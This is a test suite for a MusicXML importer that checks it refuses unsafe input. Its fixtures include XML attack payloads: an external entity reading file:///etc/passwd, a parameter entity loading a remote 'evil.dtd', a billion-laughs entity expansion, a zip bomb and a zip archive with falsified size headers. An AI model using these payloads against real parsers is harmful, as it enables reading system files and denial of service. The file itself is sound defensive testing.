import { strToU8, zipSync } from 'fflate';
import { MusicXmlError } from '../../src/musicxml';
import { ATTRS, importXml, note, scoreXml } from './support/fixtures';
import { voiceText } from './support/describe';

/** The code of the MusicXmlError the import throws (fails the test if it throws anything else). */
function codeOf(run: () => unknown): string {
  try {
    run();
  } catch (error) {
    if (error instanceof MusicXmlError) return error.code;
    throw error;
  }
  throw new Error('expected the import to be refused');
}

const SIMPLE = scoreXml([ATTRS + note('C4', { type: 'whole' })]);

function withDoctype(subset: string, body = SIMPLE): string {
  return body.replace('<score-partwise', `<!DOCTYPE score-partwise [${subset}]>\n<score-partwise`);
}

function mxl(files: Record<string, string | Uint8Array>, level = 6): Uint8Array {
  const entries = Object.fromEntries(Object.entries(files).map(([k, v]) => [k, typeof v === 'string' ? strToU8(v) : v]));
  return zipSync(entries, { level: level as 6 });
}

const CONTAINER = '<?xml version="1.0"?><container><rootfiles><rootfile full-path="score.xml"/></rootfiles></container>';

describe('importing untrusted files safely', () => {
  it('should refuse a billion-laughs document without expanding anything (MUSICXML_UNSUPPORTED)', () => {
    const laughs = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`)].join('');
    const started = Date.now();
    const xml = withDoctype(laughs, SIMPLE.replace('<part-name>Flute</part-name>', '<part-name>&lol9;</part-name>'));
    expect(codeOf(() => importXml(xml))).toBe('MUSICXML_UNSUPPORTED');
    expect(Date.now() - started).toBeLessThan(1000);
  });

  it('should refuse an external SYSTEM entity and never read the file it names', () => {
    const xml = withDoctype('<!ENTITY secret SYSTEM "file:///etc/passwd">', SIMPLE.replace('<part-name>Flute</part-name>', '<part-name>&secret;</part-name>'));
    expect(() => importXml(xml)).toThrow(expect.objectContaining({ code: 'MUSICXML_UNSUPPORTED', details: { reason: 'entity-declaration' } }));
  });

  it('should refuse parameter entities too', () => {
    expect(codeOf(() => importXml(withDoctype('<!ENTITY % remote SYSTEM "http://example.com/evil.dtd"> %remote;')))).toBe('MUSICXML_UNSUPPORTED');
  });

  it('should accept the usual public DOCTYPE without fetching its DTD', () => {
    const xml = SIMPLE.replace('<score-partwise', '<!DOCTYPE score-partwise PUBLIC "-//Recordare//DTD MusicXML 4.0 Partwise//EN" "http://www.musicxml.org/dtds/partwise.dtd">\n<score-partwise');
    expect(voiceText(importXml(xml).document)).toBe('C4:whole');
  });

  it('should decode the predefined entities and character references, and leave unknown ones as text', () => {
    const xml = SIMPLE.replace('<part-name>Flute</part-name>', '<part-name>Fl&amp;te &#233;&#x00E9; &nbsp;</part-name>');
    expect(importXml(xml).document.parts[0].name).toBe('Fl&te éé &nbsp;');
  });

  it.each([
    ['not XML at all', 'just some text', 'MUSICXML_INVALID'],
    ['unbalanced tags', '<score-partwise><part-list></score-partwise>', 'MUSICXML_INVALID'],
    ['an empty file', '', 'MUSICXML_INVALID'],
    ['another XML format', '<svg xmlns="http://www.w3.org/2000/svg"/>', 'MUSICXML_INVALID'],
    ['a score without parts', '<score-partwise><part-list/></score-partwise>', 'MUSICXML_INVALID'],
    ['an opus', '<opus><title>Collected works</title></opus>', 'MUSICXML_UNSUPPORTED'],
  ])('should refuse %s with a stable code', (_what, xml, code) => {
    expect(codeOf(() => importXml(xml))).toBe(code);
  });

  it('should refuse input over the size limit before reading it (MUSICXML_TOO_LARGE)', () => {
    expect(() => importXml(SIMPLE, { maxBytes: 100 })).toThrow(expect.objectContaining({ code: 'MUSICXML_TOO_LARGE', details: expect.objectContaining({ limit: 'input-size' }) }));
    expect(codeOf(() => importXml(new TextEncoder().encode(SIMPLE), { maxBytes: 100 }))).toBe('MUSICXML_TOO_LARGE');
  });

  it('should count text input in UTF-8 bytes', () => {
    const accented = SIMPLE.replace('<part-name>Flute</part-name>', `<part-name>${'é'.repeat(300)}</part-name>`);
    const bytes = new TextEncoder().encode(accented).length;
    expect(codeOf(() => importXml(accented, { maxBytes: bytes - 1 }))).toBe('MUSICXML_TOO_LARGE');
    expect(importXml(accented, { maxBytes: bytes }).document.parts[0].name).toBe('é'.repeat(100));
  });

  it('should refuse a score with more measures than the model holds', () => {
    const xml = scoreXml([ATTRS, ...Array.from({ length: 5001 }, () => '')]);
    expect(codeOf(() => importXml(xml))).toBe('MUSICXML_UNSUPPORTED');
  });

  it('should be an invalid-input error the application maps to 400', () => {
    try {
      importXml('nope');
    } catch (error) {
      expect(error).toMatchObject({ kind: 'invalid', name: 'MusicXmlError' });
    }
  });
});

describe('reading compressed .mxl files safely', () => {
  it('should read the score the container names', () => {
    const file = mxl({ 'META-INF/container.xml': CONTAINER, 'score.xml': SIMPLE });
    expect(voiceText(importXml(file).document)).toBe('C4:whole');
  });

  it('should find the score without a container, and say so', () => {
    const result = importXml(mxl({ 'scores/only.musicxml': SIMPLE }));
    expect(voiceText(result.document)).toBe('C4:whole');
    expect(result.warnings.map((w) => w.message).join()).toContain('no usable META-INF/container.xml');
  });

  it('should refuse a zip bomb by its compression ratio before inflating it', () => {
    const padded = SIMPLE.replace('</score-partwise>', `<!--${' '.repeat(2_000_000)}--></score-partwise>`);
    const file = mxl({ 'META-INF/container.xml': CONTAINER, 'score.xml': padded }, 9);
    expect(() => importXml(file)).toThrow(expect.objectContaining({ code: 'MUSICXML_TOO_LARGE', details: expect.objectContaining({ limit: 'compression-ratio' }) }));
  });

  it('should stop inflating once the score passes the size limit', () => {
    // About 15:1, like real scores: under the ratio limit, but 46 kB of text against a 20 kB limit.
    const filler = Array.from({ length: 12_000 }, (_, i) => (i % 97).toString(36) + ((i * 31) % 13)).join(' ');
    const file = mxl({ 'META-INF/container.xml': CONTAINER, 'score.xml': SIMPLE.replace('</score-partwise>', `<!--${filler}--></score-partwise>`) }, 9);
    expect(file.length).toBeLessThan(20_000);
    expect(() => importXml(file, { maxBytes: 20_000 })).toThrow(expect.objectContaining({ code: 'MUSICXML_TOO_LARGE', details: expect.objectContaining({ limit: 'uncompressed-size' }) }));
  });

  it('should refuse an entry that inflates to more than its header declares', () => {
    const file = mxl({ 'META-INF/container.xml': CONTAINER, 'score.xml': SIMPLE });
    // Lower the declared size in both the local header and the central directory: a lying archive.
    const view = new DataView(file.buffer, file.byteOffset, file.byteLength);
    for (let at = 0; at + 4 <= file.length; at++) {
      const signature = view.getUint32(at, true);
      const nameAt = signature === 0x04034b50 ? at + 30 : signature === 0x02014b50 ? at + 46 : -1;
      if (nameAt < 0 || new TextDecoder().decode(file.subarray(nameAt, nameAt + 9)) !== 'score.xml') continue;
      view.setUint32(signature === 0x04034b50 ? at + 22 : at + 24, 100, true);
    }
    expect(() => importXml(file)).toThrow(expect.objectContaining({ code: 'MXL_INVALID', message: 'An .mxl entry is larger than it declares' }));
  });

  it('should refuse an archive with too many entries', () => {
    const files: Record<string, string> = { 'META-INF/container.xml': CONTAINER, 'score.xml': SIMPLE };
    for (let i = 0; i < 250; i++) files[`junk/${i}.txt`] = 'x';
    expect(() => importXml(mxl(files))).toThrow(expect.objectContaining({ code: 'MUSICXML_TOO_LARGE', details: expect.objectContaining({ limit: 'entry-count' }) }));
  });

  it.each([
    ['a truncated archive', (f: Uint8Array) => f.subarray(0, 40)],
    ['a container naming a missing file', () => mxl({ 'META-INF/container.xml': CONTAINER.replace('score.xml', 'gone.xml'), 'score.xml': SIMPLE })],
    ['an archive with no score at all', () => mxl({ 'META-INF/container.xml': '<container/>', 'notes.txt': 'hello' })],
  ])('should refuse %s (MXL_INVALID)', (_what, make) => {
    expect(codeOf(() => importXml(make(mxl({ 'META-INF/container.xml': CONTAINER, 'score.xml': SIMPLE }))))).toBe('MXL_INVALID');
  });
});
